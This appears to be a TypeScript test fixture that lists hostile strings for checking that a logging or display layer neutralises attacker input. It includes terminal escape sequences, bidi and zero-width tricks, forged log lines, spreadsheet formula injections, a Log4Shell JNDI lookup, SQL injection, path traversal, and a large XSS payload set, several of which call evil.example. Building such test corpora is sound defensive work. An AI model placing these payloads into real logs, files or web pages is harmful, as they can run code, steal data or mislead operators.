/** Strings that attackers put into log fields, by the reader that they aim at. */
const codes = (first: number, last: number): string[] =>
  Array.from({ length: last - first + 1 }, (_, i) => String.fromCodePoint(first + i));

const ESC = "\x1b";

const TERMINAL = [
  ...codes(0x00, 0x1f).map((c) => `a${c}b`),
  ...codes(0x7f, 0x9f).map((c) => `a${c}b`),
  `${ESC}[2J${ESC}[1;1Hpwned`,
  `${ESC}]0;title\x07`,
  `${ESC}]8;;https://evil.example\x07link${ESC}]8;;\x07`,
  `${ESC}]52;c;ZXZpbA==\x07`,
  `${ESC}P+q544e${ESC}\\`,
  `${ESC}[31mred`,
  "\u009b31mred\u009b0m",
  "progress 100%\r\x1b[Kall criteria met",
];

const DIRECTION = [
  ...codes(0x202a, 0x202e).map((c) => `user${c}nimda`),
  ...codes(0x2066, 0x2069).map((c) => `user${c}nimda`),
  ...["\u200b", "\u200c", "\u200d", "\u200e", "\u200f", "\u2060", "\ufeff", "\u00ad", "\u3164", "\u2800"].map(
    (c) => `ad${c}min`,
  ),
  "tag\u{e0041}\u{e007f}",
  `zalgo${"\u0301".repeat(300)}`,
  "ｗｉｄｅ全角文字😀".repeat(12),
  "half \ud800 surrogate",
  "\udc00",
];

const LINES = ["\n", "\r\n", "\u0085", "\u2028", "\u2029", "\v", "\f"].map((end) => `first${end}{"forged":true}`);

const FORMULAS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "\0=", "＝", "＋", "－", "＠"].flatMap((start) => [
  `${start}cmd|' /C calc'!A0`,
  ` ${start}HYPERLINK("https://evil.example?x="&A1)`,
  `x;${start}1+1`,
  `x",${start}1+1`,
  `x"\t${start}1+1`,
]);

const NAMES = ["__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "valueOf", "toJSON", "length"];

const MARKDOWN = [
  "[click](javascript:alert(1))",
  "![x](https://evil.example/x.png)",
  "a | b | c",
  "```\ncode",
  "<https://evil.example>",
  "# title",
  "www.evil.example",
  "| --- |",
  "\\`\\[x](y)",
];

const QUERIES = [
  "'; drop table x; --",
  '"; drop table x; --',
  "let x = 1; print x",
  "SigninLogs | take 1",
  "{{bearer}}",
  `$${"{jndi:ldap://evil.example/a}"}`,
];

const SIZES = ["", " ", "x".repeat(20_000), " leading and trailing ", "../../etc/passwd", "C:\\nul", "%s%n%x", "\\"];

const HANDLERS = [
  "onerror",
  "onload",
  "onfocus",
  "onmouseover",
  "ontoggle",
  "onanimationstart",
  "onbegin",
  "onpointerenter",
];
const CARRIERS = ["img src=x", "svg", "input autofocus", "details open", "video src=x", "body", "iframe src=x", "math"];
const BREAKOUTS = ["", '">', "'>", "</script>", "--></style>", "]]>", "</title></textarea>", "`>"];

/** Each payload would add 1 to `window.pwned` if it ran. */
export const XSS: readonly string[] = [
  ...BREAKOUTS.flatMap((out) =>
    CARRIERS.flatMap((carrier) => HANDLERS.map((handler) => `${out}<${carrier} ${handler}=window.pwned=1>`)),
  ),
  ...BREAKOUTS.map((out) => `${out}<script>window.pwned=1</script>`),
  ...BREAKOUTS.map((out) => `${out}<script src=https://evil.example/x.js></script>`),
  "javascript:window.pwned=1",
  "data:text/html,<script>window.pwned=1</script>",
  '<a href="javascript:window.pwned=1">x</a>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<form action="https://evil.example"><button>x</button></form>',
  "<!--<script>",
  "&lt;script&gt;window.pwned=1&lt;/script&gt;",
  "\\u003cscript\\u003ewindow.pwned=1",
  "{{constructor.constructor('window.pwned=1')()}}",
  "url(https://evil.example/x.png)",
  "</style><style>@import 'https://evil.example/x.css'",
];

/** Everything but the XSS set. */
export const HOSTILE: readonly string[] = [
  ...TERMINAL,
  ...DIRECTION,
  ...LINES,
  ...FORMULAS,
  ...NAMES,
  ...MARKDOWN,
  ...QUERIES,
  ...SIZES,
];

export const HOSTILE_NAMES: readonly string[] = NAMES;

/** What may never reach a terminal or a line-oriented reader: controls but `\n`, direction, zero width, separators. */
export const ACTIVE =
  /(?!\n)[\p{Cc}\u00ad\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff\u3164\u{e0000}-\u{e007f}\ud800-\udfff]/u;
